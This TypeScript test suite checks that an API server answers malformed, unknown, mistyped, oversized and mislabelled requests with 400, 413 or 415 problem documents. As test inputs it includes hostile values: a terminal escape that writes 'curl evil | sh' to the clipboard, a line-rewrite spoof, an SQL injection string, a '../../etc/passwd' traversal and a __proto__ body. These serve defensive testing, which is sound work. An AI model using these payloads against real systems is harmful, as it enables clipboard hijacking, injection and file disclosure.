import assert from 'node:assert/strict';
import { it } from 'node:test';
import { Scopes } from '@sovereign/contract';
import { configFromEnv, defaultConfig } from '../src/config.ts';
import { type Answer, type Harness, onFlowDatabase, type RequestOptions } from './support/harness.ts';
import {
  assertProblem,
  fillPath,
  type JsonSchema,
  mistyped,
  type Operation,
  type Parameter,
  sample,
  servedOperations,
  unboundedInputs,
} from './support/routes.ts';
import { jobAndRun } from './support/world.ts';

/**
 * Bad input on every route the OpenAPI document lists: bodies that are not JSON, not
 * objects, carry unknown members or members of the wrong type, are too large or are
 * labelled as something else; path parameters that are not ids; query values of the
 * wrong type or range. Each gets a 400, 413 or 415 problem document, never a 500, and
 * validation failures name each field at fault once, in words a person can act on.
 */

type FieldError = { path: string; message: string };

/** A 400 validation_failed whose `errors` are exactly these paths (messages checked when given). */
function invalid(answer: Answer, expected: Array<string | FieldError>, what: string): FieldError[] {
  assertProblem(answer, 400, 'validation_failed', what);
  const errors = answer.body.errors as FieldError[] | undefined;
  assert.ok(Array.isArray(errors), `${what}: an errors list (${answer.text})`);
  for (const e of errors) {
    assert.deepEqual(Object.keys(e).sort(), ['message', 'path'], `${what}: entry shape`);
    assert.ok(e.message.length > 0, `${what}: a message for ${e.path}`);
    assert.doesNotMatch(e.message, /schema is false|additional properties|anyOf/, `${what}: ${e.message}`);
  }
  const keys = errors.map((e) => `${e.path} ${e.message}`);
  assert.equal(new Set(keys).size, keys.length, `${what}: no entry twice (${answer.text})`);
  const paths = (list: Array<string | FieldError>) => list.map((e) => (typeof e === 'string' ? e : e.path)).sort();
  assert.deepEqual(paths(errors), paths(expected), `${what}: the fields at fault (${answer.text})`);
  for (const e of expected) {
    if (typeof e !== 'string') {
      assert.deepEqual(
        errors.find((found) => found.path === e.path),
        e,
        what,
      );
    }
  }
  for (const e of errors) assert.ok(answer.body.detail.includes(`${e.path} ${e.message}`), `${what}: detail`);
  return errors;
}

const nul = 'must not contain the NUL character (U+0000)';
const loneSurrogate = 'must be valid Unicode (it holds an unpaired surrogate)';

/** A tenant with one entity of each kind, so every path parameter has a real id. */
async function buildWorld(h: Harness) {
  const t = await h.tenant('input');
  const key = await h.expect(200, 'POST', '/api-keys', { token: t.people.owner.token, body: { name: 'k' } });
  const scoped = await h.scopedToken(t.people.owner.token, t.workspace.workspaceId, ['runs:logs']);
  const { jobId, runId, backfillId } = await jobAndRun(h, t);
  const ids: Record<string, string> = {
    organizationId: t.organizationId,
    regionId: t.regionId,
    dataplaneId: t.dataplane.dataplaneId,
    workspaceId: t.workspace.workspaceId,
    userId: t.people.viewer.userId,
    apiKeyId: key.apiKeyId,
    tokenId: scoped.tokenId,
    jobId,
    runId,
    backfillId,
  };
  /** A credential allowed to call the operation: none for public routes, else the owner (or the instance admin). */
  const tokenFor = (op: Operation) =>
    op.documentedPublic ? undefined : op.key === 'POST /users' ? h.adminToken : t.people.owner.token;
  return { t, ids, tokenFor };
}

/** Query values the parameter's schema refuses, each with the path the error must name. */
function badQueryValues(p: Parameter): Array<{ value: string | string[]; path: string }> {
  const s = p.schema;
  const at = `querystring.${p.name}`;
  const bad: Array<{ value: string | string[]; path: string }> = [];
  if (s.enum !== undefined) bad.push({ value: 'exploded', path: at });
  if (s.type === 'string' && s.format === 'uuid') {
    bad.push({ value: 'not-a-uuid', path: at }, { value: 'urn:uuid:00000000-0000-4000-8000-000000000000', path: at });
  }
  if (s.type === 'string' && s.pattern !== undefined) bad.push({ value: 'a b!', path: at });
  if (s.type === 'string' && s.maxLength !== undefined) bad.push({ value: 'a'.repeat(s.maxLength + 1), path: at });
  if (s.type === 'integer') {
    bad.push({ value: 'abc', path: at }, { value: '', path: at });
    if (s.minimum !== undefined) bad.push({ value: String(s.minimum - 1), path: at });
    if (s.maximum !== undefined) bad.push({ value: String(s.maximum + 1), path: at });
  }
  if (s.type === 'boolean') bad.push({ value: 'maybe', path: at });
  if (s.type === 'array') {
    if (s.items?.format === 'uuid') {
      bad.push({ value: 'not-a-uuid', path: `${at}.0` });
      bad.push({ value: 'urn:uuid:00000000-0000-4000-8000-000000000000', path: `${at}.0` });
    }
    if (s.maxItems !== undefined) {
      bad.push({ value: Array.from({ length: s.maxItems + 1 }, () => String(sample(s.items ?? {}))), path: at });
    }
  }
  // A scalar given twice arrives as a list: the wrong type.
  if (s.type !== 'array') bad.push({ value: [String(sample(s)), String(sample(s))], path: at });
  return bad;
}

function queryString(values: Record<string, string | string[]>): string {
  const search = new URLSearchParams();
  for (const [name, value] of Object.entries(values)) {
    for (const v of Array.isArray(value) ? value : [value]) search.append(name, v);
  }
  const text = search.toString();
  return text === '' ? '' : `?${text}`;
}

onFlowDatabase('bad input: malformed, unknown, mistyped, oversize and mislabelled requests', (h) => {
  let world: ReturnType<typeof buildWorld> | undefined;
  const w = () => {
    world ??= buildWorld(h());
    return world;
  };

  it('limits bodies to the configured size, 256 KiB unless SOV_BODY_LIMIT_BYTES says otherwise', () => {
    assert.equal(defaultConfig().bodyLimit, 256 * 1024);
    assert.equal(configFromEnv({}).bodyLimit, 256 * 1024);
    assert.equal(configFromEnv({ SOV_BODY_LIMIT_BYTES: '1024' }).bodyLimit, 1024);
    assert.equal(h().plane.deps.config.bodyLimit, 256 * 1024);
  });

  it('bounds every number a route takes, so none reaches the database too large to hold', async () => {
    const operations = await servedOperations(h());
    assert.deepEqual(unboundedInputs(operations), []);
  });

  it('answers every bad body on every route that takes one with a 400, 413 or 415 problem document', async () => {
    const { ids, tokenFor } = await w();
    const limit = h().plane.deps.config.bodyLimit;
    const operations = (await servedOperations(h())).filter((op) => op.body !== undefined);
    assert.ok(operations.length >= 15, `${operations.length} routes take a body`);

    for (const op of operations) {
      const schema = op.body as JsonSchema;
      const url = fillPath(op.template, ids);
      const send = (options: RequestOptions) => h().request(op.method, url, { token: tokenFor(op), ...options });
      const what = (label: string) => `${op.key} ${label}`;
      assert.equal(schema.type, 'object', what('takes an object'));
      assert.equal(schema.additionalProperties, false, what('is closed: an unknown member is an error'));
      const valid = sample(schema, '', ids) as Record<string, unknown>;

      // The least valid body passes validation, so each fault below is the only one.
      const accepted = await send({ body: valid });
      assert.ok(![400, 413, 415].includes(accepted.status), what(`valid body: ${accepted.text}`));
      assert.ok(accepted.status < 500, what(`valid body: ${accepted.text}`));

      for (const raw of ['{"name": ', '{name: "x"}', "{'name': 'x'}", '[1,]', 'nul', '{"a": 1} trailing', '']) {
        assertProblem(await send({ raw }), 400, 'invalid_json', what(`malformed ${JSON.stringify(raw)}`));
      }
      assertProblem(await send({ raw: '{"__proto__": {"x": 1}}' }), 400, 'invalid_json', what('__proto__'));

      for (const raw of ['[]', '"text"', '42', 'null', 'true']) {
        invalid(await send({ raw }), [{ path: 'body', message: 'must be object' }], what(`body ${raw}`));
      }

      invalid(
        await send({ body: { ...valid, sneaky: 'field' } }),
        [{ path: 'body.sneaky', message: 'is not a known field' }],
        what('unknown field'),
      );
      invalid(
        await send({ body: { ...valid, sneaky: 1, nested: { deeper: true } } }),
        [
          { path: 'body.sneaky', message: 'is not a known field' },
          { path: 'body.nested', message: 'is not a known field' },
        ],
        what('two unknown fields'),
      );

      const required = schema.required ?? [];
      if (required.length > 0) {
        invalid(
          await send({ body: {} }),
          required.map((name) => ({ path: `body.${name}`, message: 'is required' })),
          what('no members'),
        );
      }

      for (const [name, property] of Object.entries(schema.properties ?? {})) {
        const errors = invalid(
          await send({ body: { ...valid, [name]: mistyped(property) } }),
          [`body.${name}`],
          what(`${name} of the wrong type`),
        );
        assert.match(errors[0]?.message ?? '', /^must be /, what(`${name} of the wrong type`));
        if (property.type === 'string') {
          invalid(
            await send({ body: { ...valid, [name]: 'a\u0000b' } }),
            [{ path: `body.${name}`, message: nul }],
            what(`${name} with a NUL`),
          );
          invalid(
            await send({ raw: JSON.stringify({ ...valid, [name]: 'a\ud800b' }) }),
            [{ path: `body.${name}`, message: loneSurrogate }],
            what(`${name} with an unpaired surrogate`),
          );
        }
      }

      // Exactly the limit is read (and refused for its unknown member); one byte more is too large.
      const padded = (size: number) => {
        const head = JSON.stringify({ ...valid, pad: '' }).slice(0, -2);
        return `${head}${'x'.repeat(size - head.length - 2)}"}`;
      };
      assert.equal(padded(limit).length, limit);
      invalid(await send({ raw: padded(limit) }), ['body.pad'], what('a body of exactly the limit'));
      assertProblem(await send({ raw: padded(limit + 1) }), 413, 'body_too_large', what('a body over the limit'));
      assertProblem(await send({ raw: padded(4 * limit) }), 413, 'body_too_large', what('a body far over the limit'));

      const json = JSON.stringify(valid);
      for (const type of [
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/octet-stream',
        'application/merge-patch+json',
        '',
      ]) {
        const answer = await send({ raw: json, headers: { 'content-type': type } });
        assertProblem(answer, 415, 'unsupported_media_type', what(`sent as ${JSON.stringify(type)}`));
      }
      const unlabelled = await h().plane.app.inject({
        method: op.method as 'POST',
        url,
        payload: json,
        headers: tokenFor(op) === undefined ? {} : { authorization: `Bearer ${tokenFor(op)}` },
      });
      assert.equal(unlabelled.statusCode, 415, what(`without a content-type: ${unlabelled.body}`));
      assert.equal(JSON.parse(unlabelled.body).code, 'unsupported_media_type');
    }
  });

  it('words each validation failure so a person can fix it', async () => {
    const { t } = await w();
    const owner = t.people.owner.token;
    const org = `/organizations/${t.organizationId}`;
    const send = (method: string, url: string, body: unknown) => h().request(method, url, { token: owner, body });

    invalid(
      await send('POST', `${org}/members`, { email: 'a@b.test', role: 'king' }),
      [{ path: 'body.role', message: 'must be one of "owner", "admin", "member", "viewer"' }],
      'a role that does not exist',
    );
    invalid(
      await send('POST', `/workspaces/${t.workspace.workspaceId}/dataplane-token`, { scopes: ['runs:logs', 'root'] }),
      [{ path: 'body.scopes.1', message: `must be one of ${Scopes.map((s) => JSON.stringify(s)).join(', ')}` }],
      'a scope that does not exist',
    );
    invalid(
      await send('POST', '/workspaces', { name: '', organizationId: 'nope', regionId: t.regionId }),
      [
        { path: 'body.name', message: 'must not have fewer than 1 characters' },
        { path: 'body.organizationId', message: 'must match format "uuid"' },
      ],
      'an empty name and an id that is not one',
    );
    invalid(
      await send('POST', '/regions', { name: '   ', organizationId: t.organizationId }),
      [{ path: 'body.name', message: 'must not be blank nor hold control characters' }],
      'a blank name',
    );
    invalid(
      await send('POST', `${org}/members`, { email: 'not an address', role: 'viewer' }),
      [{ path: 'body.email', message: 'must be an email address' }],
      'an email that is not one',
    );
    invalid(
      await send('POST', '/api-keys', { name: 'k', expiresInDays: 0, color: 'red' }),
      [
        { path: 'body.expiresInDays', message: 'must be >= 1' },
        { path: 'body.color', message: 'is not a known field' },
      ],
      'a number out of range and an unknown field',
    );
    invalid(
      await send('PATCH', `${org}/members/${t.people.viewer.userId}`, {}),
      [{ path: 'body.role', message: 'is required' }],
      'a missing member',
    );
  });

  it('refuses control characters (C0, DEL, C1) in the names of organizations, workspaces, regions and data planes', async () => {
    // Others read these names in their terminals, where such a character is an order: OSC 52
    // writes the clipboard, CR and ESC[2K rewrite the line.
    const { t } = await w();
    const owner = t.people.owner.token;
    const send = (method: string, url: string, body: Record<string, unknown>) =>
      h().request(method, url, { token: owner, body });
    const hostile = [
      `acme\u001b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007`,
      'acme\r\u001b[2Kyour-bank',
      'tab\there',
      'line\nbreak',
      'del\u007f',
      'csi\u009b31m',
      'next\u0085line',
    ];
    const routes: Array<[string, string, Record<string, unknown>]> = [
      ['POST', '/organizations', {}],
      ['PATCH', `/organizations/${t.organizationId}`, {}],
      ['POST', '/workspaces', { organizationId: t.organizationId, regionId: t.regionId }],
      ['PATCH', `/workspaces/${t.workspace.workspaceId}`, {}],
      ['POST', `/workspaces/${t.workspace.workspaceId}/move`, { regionId: t.regionId }],
      ['POST', '/regions', { organizationId: t.organizationId }],
      ['PATCH', `/regions/${t.regionId}`, {}],
      ['POST', '/dataplanes', { regionId: t.regionId }],
      ['POST', `/regions/${t.regionId}/dataplanes`, {}],
      ['PATCH', `/dataplanes/${t.dataplane.dataplaneId}`, {}],
    ];
    for (const [method, url, rest] of routes) {
      for (const name of hostile) {
        invalid(
          await send(method, url, { ...rest, name }),
          [{ path: 'body.name', message: 'must not be blank nor hold control characters' }],
          `${method} ${url} named ${JSON.stringify(name)}`,
        );
      }
    }
    // Letters of any script, symbols and inner spaces are names as before.
    const created = await h().expect(200, 'POST', '/organizations', { token: owner, body: { name: 'Café 東京 ✓ ½' } });
    assert.equal(created.name, 'Café 東京 ✓ ½');
  });

  it('refuses path parameters that are not ids with a 400, before any lookup', async () => {
    const { ids, tokenFor } = await w();
    const operations = (await servedOperations(h())).filter((op) => op.pathParams.length > 0);
    assert.ok(operations.length >= 20, `${operations.length} routes with path parameters`);
    for (const op of operations) {
      const token = tokenFor(op);
      for (const p of op.pathParams) {
        const what = (label: string) => `${op.key} with ${p.name} ${label}`;
        const url = (value: string) => fillPath(op.template, { ...ids, [p.name]: value });
        const get = (value: string, options: RequestOptions = { token }) => h().request(op.method, url(value), options);
        const bad: string[] = [];
        if (p.schema.format === 'uuid') {
          bad.push('not-a-uuid', "1' OR 1=1", '../../etc/passwd', `${ids[p.name]?.slice(0, -1)}g`, '{}', '0');
          // The uuid format alone takes a URN; PostgreSQL does not (it was a 500).
          bad.push(`urn:uuid:${ids[p.name]}`);
        }
        if (p.schema.maxLength !== undefined) bad.push('a'.repeat(p.schema.maxLength + 1));
        assert.ok(bad.length > 0, what('has a schema that refuses something'));
        for (const value of bad) {
          invalid(await get(value), [`params.${p.name}`], what(JSON.stringify(value)));
        }
        invalid(await get('a\u0000b'), [{ path: `params.${p.name}`, message: nul }], what('holding a NUL'));
        // Without a credential the answer is 401 whatever the parameter: nothing is learnt.
        assertProblem(await get(bad[0] ?? '', {}), 401, 'unauthenticated', what('and no token'));

        // Bad URL encoding and a parameter over the router's limit: problem documents too.
        for (const [label, raw] of [
          ['in bad URL encoding', '%E0%A4%A'],
          ['of 300 characters', 'a'.repeat(300)],
        ] as const) {
          const path = op.template.replace(`{${p.name}}`, raw).replace(/\{(\w+)\}/g, (_, n: string) => ids[n] ?? n);
          assertProblem(await h().request(op.method, path, { token }), 400, 'validation_failed', what(label));
        }
      }
    }
  });

  it('refuses query values of the wrong type, range or name with a 400', async () => {
    const { ids, tokenFor } = await w();
    const operations = (await servedOperations(h())).filter((op) => op.queryParams.length > 0);
    assert.ok(operations.length >= 5, `${operations.length} routes with a query`);
    for (const op of operations) {
      const token = tokenFor(op);
      const base: Record<string, string> = {};
      for (const p of op.queryParams) if (p.required) base[p.name] = String(sample(p.schema, p.name, ids));
      const url = fillPath(op.template, ids);
      const get = (query: Record<string, string | string[]>) =>
        h().request(op.method, `${url}${queryString({ ...base, ...query })}`, { token });
      const what = (label: string) => `${op.key} ${label}`;

      assert.equal((await get({})).status, 200, what('with a valid query'));
      invalid(
        await get({ sneaky: '1' }),
        [{ path: 'querystring.sneaky', message: 'is not a known field' }],
        what('unknown'),
      );
      for (const p of op.queryParams) {
        for (const { value, path } of badQueryValues(p)) {
          invalid(await get({ [p.name]: value }), [path], what(`${p.name}=${JSON.stringify(value)}`));
        }
        invalid(await get({ [p.name]: 'a\u0000b' }), [`querystring.${p.name}`], what(`${p.name} holding a NUL`));
        if (p.required) {
          const { [p.name]: _, ...rest } = base;
          const answer = await h().request(op.method, `${url}${queryString(rest)}`, { token });
          invalid(answer, [{ path: `querystring.${p.name}`, message: 'is required' }], what(`without ${p.name}`));
        }
      }
    }

    // Cursors are checked by the routes that page: one they never gave out is a 400.
    const owner = (await w()).t.people.owner.token;
    for (const cursor of ['zzz', Buffer.from('yesterday|not-an-id').toString('base64url')]) {
      assertProblem(
        await h().request('GET', `/runs?cursor=${cursor}`, { token: owner }),
        400,
        'validation_failed',
        cursor,
      );
    }
  });

  it('handles a body sent to a route that takes none without a 500', async () => {
    const { ids, tokenFor } = await w();
    const limit = h().plane.deps.config.bodyLimit;
    const operations = (await servedOperations(h())).filter(
      (op) => op.body === undefined && op.method !== 'GET' && op.key !== 'POST /auth/logout',
    );
    assert.ok(operations.length >= 5);
    for (const op of operations) {
      const send = (options: RequestOptions) =>
        h().request(op.method, fillPath(op.template, ids), { token: tokenFor(op), ...options });
      assertProblem(await send({ raw: '{"a": ' }), 400, 'invalid_json', `${op.key} malformed`);
      assertProblem(await send({ raw: `"${'x'.repeat(limit)}"` }), 413, 'body_too_large', `${op.key} oversize`);
      assertProblem(
        await send({ raw: 'x', headers: { 'content-type': 'text/plain' } }),
        415,
        'unsupported_media_type',
        `${op.key} mislabelled`,
      );
    }
  });
});

onFlowDatabase(
  'bad input: a body limit set in the configuration',
  (h) => {
    it('refuses one byte over the configured limit with 413, and reads exactly the limit', async () => {
      const t = await h().tenant('limit');
      const limit = h().plane.deps.config.bodyLimit;
      assert.equal(limit, 2048);
      const body = (size: number) => `{"name":"${'n'.repeat(size - 11)}"}`;
      assert.equal(body(limit).length, limit);
      const at = await h().request('POST', '/api-keys', { token: t.people.owner.token, raw: body(limit) });
      invalid(at, [{ path: 'body.name', message: 'must not have more than 100 characters' }], 'exactly the limit');
      const over = await h().request('POST', '/api-keys', { token: t.people.owner.token, raw: body(limit + 1) });
      assertProblem(over, 413, 'body_too_large', 'one byte over');
    });
  },
  { bodyLimit: 2048 },
);
